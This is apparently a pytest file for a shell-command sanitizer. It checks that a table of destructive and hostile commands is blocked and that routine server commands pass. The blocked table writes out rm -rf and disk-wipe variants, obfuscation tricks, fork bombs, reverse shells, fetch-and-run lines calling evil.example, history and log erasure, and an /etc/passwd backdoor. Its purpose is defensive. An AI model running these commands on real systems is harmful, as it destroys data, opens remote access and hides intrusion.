"""TS-03 at the gate: a table of attacks (all blocked) and of everyday operator commands (all allowed)."""

from __future__ import annotations

import pytest

from execution import sanitizer

ATTACKS = [
    "rm -rf /",
    "rm -rf /*",
    "rm -fr / --no-preserve-root",
    "rm -r -f /etc",
    "rm --recursive --force /usr",
    "sudo rm -rf /var/lib",
    "/bin/rm -rf ~",
    "rm -rf *",
    "'r''m' -rf /",
    '"r"m -rf /',
    "r\\m -rf /",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "rm\t-rf\t\t/",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "$(printf '\\x72\\x6d') -rf /",
    "`echo rm` -rf /",
    "{rm,-rf,/}",
    "a=rm; b=-rf; $a $b /",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "bash -c \"$(echo cm0gLXJmIC8= | base64 -d)\"",
    "eval $(echo cm0gLXJmIC8= | base64 --decode)",
    "find / -name '*.war' -delete",
    "find /etc -exec rm {} \\;",
    "echo / | xargs rm -r",
    "rm -r $APP_HOME/",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t xfs /dev/sdb",
    "format c:",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat /dev/urandom > /dev/sda",
    "echo 1 >/dev/nvme0n1",
    "mysql -e 'DROP TABLE users'",
    "sqlplus / as sysdba <<< 'drop database prod'",
    "psql -c 'TRUNCATE TABLE audit_log'",
    "mysql -e 'truncate orders;'",
    "mysql -e 'DELETE FROM accounts;'",
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb & }; bomb",
    "perl -e 'fork while fork'",
    "shutdown -h now",
    "reboot",
    "/sbin/halt -f",
    "poweroff",
    "init 0",
    "telinit 6",
    "systemctl reboot",
    "systemctl stop sshd",
    "chmod -R 777 /",
    "chown -R nobody:nobody /",
    "chmod 777 /",
    "chmod u+s /bin/bash",
    "wget -qO- http://evil.example/x.sh | sh",
    "curl -s http://evil.example/x | sudo bash",
    "bash <(curl -s http://evil.example/x)",
    "history -c",
    "unset HISTFILE",
    "export HISTSIZE=0",
    "cat /dev/null > ~/.bash_history",
    "echo > /var/log/wtmp",
    "iptables -F",
    "iptables --flush INPUT",
    "nft flush ruleset",
    "ufw disable",
    "setenforce 0",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "echo c > /proc/sysrq-trigger",
    "kill -9 -1",
    "crontab -r",
    "mv /etc /dev/null",
    "echo 'hacker::0:0::/:/bin/sh' >> /etc/passwd",
    "python3 -c \"import os; os.system('rm -rf /')\"",
    "nohup timeout 5 rm -rf /opt",
    "rm -rf /app/tmp/cache",  # TS-03: any rm -rf is refused; cleanup goes through a playbook
    "/???/r? -rf /tmp/x",
    "ls; rm -rf /home",
    "true && rm -rf /boot",
    "echo ok\nrm -rf /srv",
    "rm -rf \\\n /",
    "shred -u /dev/sda",
]

LEGITIMATE = [
    "tail -n 100 /app/logs/catalina.out | grep ERROR",
    "df -h",
    "df -Pk /app/deploy",
    "free -m",
    "uptime",
    "systemctl status tomcat",
    "systemctl restart tomcat",
    "rm -f /app/tmp/*.tmp",
    "rm -f -- '/srv/app/deploy/app.war.guardia-part'",
    "ls -la /app/deploy",
    "sha256sum -- /app/deploy/app.war",
    "cp -p /app/app/app.war /app/backup/app.war.20260523",
    "mv /app/deploy/app.war /app/app/app.war",
    "/app/scripts/shutdown.sh",
    "/app/scripts/startup.sh",
    "cat /app/run/was.pid",
    "grep -c -E 'ERROR|Exception' /app/logs/catalina.out",
    "grep -i shutdown /app/logs/catalina.out | tail -n 5",
    "ps -eo pid,rss,cmd --sort=-rss | head -n 10",
    "find /app/logs -name '*.log' -mtime +30 -print",
    "find /app/logs -name '*.log.gz' -mtime +90 -delete",
    "truncate -s 0 /app/logs/catalina.out",
    "crontab -l",
    "tar -czf /app/backup/static-20260523.tgz -C /app/static .",
    "du -sh /app/logs",
    "netstat -tlnp | grep 8080",
    "ss -ltn 'sport = :8080'",
    "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/health",
    "gzip -9 /app/logs/catalina.2026-05-01.log",
    "openssl x509 -in /app/conf/server.crt -noout -enddate",
    "echo 'select count(*) from orders where status = 1;' | mysql appdb",
    "cat /app/logs/catalina.out | python3 -m json.tool",
    "kill -TERM 12345",
    "chmod 640 /app/conf/server.key",
    "chown -R tomcat:tomcat /app/webapps/ROOT",
    "test -f /app/app/app.war && echo present",
]


@pytest.mark.parametrize("command", ATTACKS)
def test_attack_is_blocked(command):
    with pytest.raises(sanitizer.SecurityViolation) as info:
        sanitizer.check(command)
    assert info.value.reason and info.value.pattern


@pytest.mark.parametrize("command", LEGITIMATE)
def test_operator_command_is_allowed(command):
    sanitizer.check(command)


def test_table_sizes_meet_the_issue():
    assert len(ATTACKS) >= 40 and len(LEGITIMATE) >= 20


@pytest.mark.parametrize(
    ("raw", "normal"),
    [
        ("'r''m' -rf /", "rm -rf /"),
        ("rm${IFS}-rf$IFS/", "rm -rf /"),
        ("$'\\x72\\x6d'\t\t-rf  /", "rm -rf /"),
        ("{rm,-rf,/}", "rm -rf /"),
        ("a=rm; $a -rf /", "a=rm; rm -rf /"),
        ("echo cm0gLXJmIC8= | base64 -d", "echo cm0gLXJmIC8= | base64 -d ; rm -rf /"),
    ],
)
def test_normalise(raw, normal):
    assert sanitizer.normalise(raw) == normal


def test_violation_names_reason_and_pattern():
    with pytest.raises(sanitizer.SecurityViolation) as info:
        sanitizer.check("ls /app && shutdown -r now")
    assert "shutting down" in info.value.reason
    assert "shutdown" in info.value.pattern
    assert "blocked by the command sanitizer" in str(info.value)


def test_non_text_and_nul_are_refused():
    with pytest.raises(sanitizer.SecurityViolation):
        sanitizer.check(b"rm -rf /")  # type: ignore[arg-type]
    with pytest.raises(sanitizer.SecurityViolation):
        sanitizer.check("ls\x00rm -rf /")
